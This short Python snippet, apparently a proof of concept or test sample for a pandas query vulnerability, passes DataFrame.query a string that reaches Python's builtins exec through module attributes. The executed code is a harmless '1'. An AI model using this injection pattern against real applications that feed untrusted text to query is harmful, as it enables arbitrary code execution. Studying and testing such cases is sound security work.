# shape: CVE-2023-46134: query text
import pandas as pd
df = pd.DataFrame({"a": [1]})
df.query("@pd.core.frame.com.builtins.exec('1')")
